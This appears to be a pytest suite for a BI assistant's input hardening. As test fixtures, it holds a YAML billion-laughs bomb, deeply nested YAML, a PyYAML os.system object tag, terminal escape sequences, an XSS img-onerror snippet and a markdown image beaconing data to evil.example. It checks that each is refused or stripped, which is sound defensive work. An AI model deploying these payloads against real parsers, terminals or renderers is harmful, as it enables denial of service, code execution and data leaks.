"""Hostile input outside the question box: YAML bombs, deep nesting, invalid text, terminal
escapes, runaway queries, resource limits, the audit log's own robustness."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml

from genbi import safe_yaml
from genbi.errors import ConfigError, GenbiError, WarehouseError
from genbi.text_safety import clean_text, safe_markdown, strip_terminal

LAUGHS = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8))
"""Nine lines that expand to 9^9 (387 million) strings."""
HOSTILE_YAML = {
    "billion_laughs": LAUGHS,
    "deep_flow": "[" * 20_000 + "]" * 20_000,
    "deep_block": "".join(" " * i + f"k{i}:\n" for i in range(200)) + " " * 200 + "v\n",
    "deep_through_aliases": "x0: &x0 [1]\n" + "".join(f"x{i}: &x{i} [*x{i - 1}]\n" for i in range(1, 100)),
    "self_reference": "a: &a [*a]\n",
    "many_aliases": "a: &a 1\nb: [" + ", ".join(["*a"] * 2_000) + "]\n",
    "python_object": "!!python/object/apply:os.system ['echo pwned']\n",
    "duplicate_key": "a: 1\na: 2\n",
}


@pytest.mark.parametrize("name", HOSTILE_YAML)
def test_hostile_yaml_is_refused_quickly_and_clearly(name: str) -> None:
    with pytest.raises(yaml.YAMLError) as refused:
        safe_yaml.load(HOSTILE_YAML[name])
    assert "Traceback" not in str(refused.value)


def test_the_model_reads_the_same_as_with_pyyamls_own_parser() -> None:
    """The C parser (libyaml, where PyYAML has it) builds the same data and line marks."""
    from genbi.semantic_layer.loader import demo_model_path

    text = demo_model_path().read_text(encoding="utf-8")
    node, data = safe_yaml.compose(text)
    assert data == yaml.load(text, Loader=yaml.SafeLoader)
    reference = yaml.compose(text, Loader=yaml.SafeLoader)
    assert node is not None and reference is not None
    assert [n.start_mark.line for n in _walk(node)] == [n.start_mark.line for n in _walk(reference)]


def _walk(node: yaml.Node) -> list[yaml.Node]:
    children = [c for pair in node.value for c in pair] if isinstance(node, yaml.MappingNode) else (
        list(node.value) if isinstance(node, yaml.SequenceNode) else [])
    return [node, *(n for child in children for n in _walk(child))]


def test_ordinary_yaml_with_anchors_still_loads() -> None:
    assert safe_yaml.load("base: &b {x: 1}\nthis: *b\nlist: [1, 2]\n") == {
        "base": {"x": 1}, "this": {"x": 1}, "list": [1, 2]}


@pytest.mark.parametrize("name", ["billion_laughs", "deep_flow", "self_reference", "python_object"])
def test_every_yaml_genbi_reads_refuses_a_bomb(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """roles.yaml, the semantic model and the project file: one clear error each."""
    from genbi.assistant.access import load_roles_config
    from genbi.semantic_layer.loader import load_model
    from genbi.settings import _read_project

    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(HOSTILE_YAML[name], encoding="utf-8")
    for read in (load_roles_config, load_model, _read_project):
        with pytest.raises(GenbiError) as refused:
            read(bomb)
        assert str(refused.value), read


def test_a_deeply_nested_model_is_a_model_error(tmp_path: Path) -> None:
    from genbi.errors import ModelError
    from genbi.semantic_layer.loader import load_model

    model = tmp_path / "deep.yaml"
    model.write_text("name: x\ntables:\n" + "".join("  " * (i + 1) + f"- k{i}:\n" for i in range(60)), encoding="utf-8")
    with pytest.raises(ModelError):
        load_model(model)


def test_invalid_text_is_replaced_and_said() -> None:
    assert clean_text("revenue \ud800 by \udcff channel") == ("revenue \ufffd by \ufffd channel", True)
    assert clean_text("正常 text") == ("正常 text", False)


def test_terminal_escapes_are_stripped() -> None:
    hostile = "orders\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x9b\x00 end\n\tok"
    assert strip_terminal(hostile) == "ordersred end\n\tok"


def test_llm_markdown_loses_images_and_html_but_keeps_words() -> None:
    text = ("Revenue rose. ![chart](https://evil.example/x.png?d=a@b.cn) ![r][1] "
            "<img src=x onerror=alert(1)> <script>x</script> **bold** [docs](https://example.com)")
    safe = safe_markdown(text)
    assert "https://evil.example" not in safe and "<img" not in safe and "<script" not in safe
    assert "Revenue rose." in safe and "**bold**" in safe and "[docs](https://example.com)" in safe


def test_the_warehouse_connection_has_memory_and_thread_limits(warehouse_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from genbi.semantic_layer.warehouse import connect_read_only

    monkeypatch.setenv("GENBI_DUCKDB_MEMORY", "512MB")
    monkeypatch.setenv("GENBI_DUCKDB_THREADS", "1")
    connection = connect_read_only(warehouse_path)
    try:
        memory, threads, temp = connection.execute(
            "SELECT current_setting('memory_limit'), current_setting('threads'), "
            "current_setting('temp_directory')").fetchone() or ()
    finally:
        connection.close()
    assert memory.startswith(("488", "512")) and int(threads) == 1
    assert Path(temp).parent == Path(os.environ["GENBI_HOME"]) / "state"  # genbi's own spill folder
    assert Path(temp).stat().st_mode & 0o077 == 0 and not (warehouse_path.parent / ".tmp").exists()
    monkeypatch.setenv("GENBI_DUCKDB_SPILL", "0")
    connection = connect_read_only(warehouse_path)
    try:
        assert connection.execute("SELECT current_setting('temp_directory')").fetchone() == ("",)
    finally:
        connection.close()
    monkeypatch.setenv("GENBI_DUCKDB_MEMORY", "lots")
    with pytest.raises(ConfigError, match="GENBI_DUCKDB_MEMORY"):
        connect_read_only(warehouse_path)


def test_a_second_connection_to_the_same_warehouse_opens(warehouse_path: Path) -> None:
    """The eval harness reads gold answers beside the assistant's own connection."""
    from genbi.semantic_layer.warehouse import connect_read_only

    first = connect_read_only(warehouse_path)
    try:
        second = connect_read_only(warehouse_path)
        setting = "SELECT current_setting('temp_directory')"
        assert second.execute(setting).fetchone() == first.execute(setting).fetchone()
        second.close()
    finally:
        first.close()


@pytest.mark.parametrize("sql", [
    "SELECT COUNT(*) AS n FROM orders AS a, orders AS b, orders AS c",
    "SELECT COUNT(*) AS n FROM customers AS a, customers AS b WHERE regexp_matches(a.city || b.city, '(a|aa)*b')",
])
def test_runaway_queries_stop_with_a_clear_message(sql: str, warehouse_path: Path) -> None:
    from genbi.semantic_layer.warehouse import Warehouse

    with Warehouse.open(warehouse_path) as warehouse, pytest.raises(WarehouseError) as stopped:
        warehouse.run(sql, timeout_s=0.5)
    assert "stopped after 0.5 s" in str(stopped.value)


def test_an_audit_write_that_fails_never_loses_the_answer(tmp_path: Path) -> None:
    from genbi.assistant.audit import AuditLog

    blocked = tmp_path / "file"
    blocked.write_text("x")
    AuditLog(blocked / "audit.jsonl").append({"question": "q"})  # its folder is a file: logged
    log = AuditLog(tmp_path / "audit.jsonl")
    log.append({"question": "bad \ud800 text", "sql": object()})  # unencodable and odd values
    assert log.tail(5)[0]["question"] == "bad \ufffd text"


def test_the_audit_masks_values_but_not_ids(tmp_path: Path) -> None:
    from genbi.assistant.audit import AuditLog, format_record

    log = AuditLog(tmp_path / "audit.jsonl")
    log.append({"user": "slack:T0:U13912345678", "session": "slack:C0:1391234567.8",
                "question": "mail bob@corp.cn or 13912345678", "outcome": "answered",
                "plan": {"filters": ["x AT y.com"]}})
    record = json.loads((tmp_path / "audit.jsonl").read_text(encoding="utf-8"))
    assert record["user"] == "slack:T0:U13912345678" and record["session"] == "slack:C0:1391234567.8"
    assert "bob@" not in record["question"] and "13912345678" not in record["question"]
    assert record["plan"] == {"filters": ["x***@y.com"]}
    escaped = format_record({"user": "cli:\x1b[2Jroot", "question": "x\x1b]0;t\x07", "reason": "\x1b[31m"})
    assert "\x1b" not in escaped


def test_a_huge_text_cell_is_cut(warehouse_path: Path) -> None:
    from genbi.semantic_layer.resource_limits import MAX_CELL_CHARS
    from genbi.semantic_layer.warehouse import Warehouse

    with Warehouse.open(warehouse_path) as warehouse:
        result = warehouse.run("SELECT repeat('ab', 1000000) AS big, 'small' AS s")
    big, small = result.rows[0]
    assert len(big) == MAX_CELL_CHARS + 1 and big.endswith("…") and small == "small"
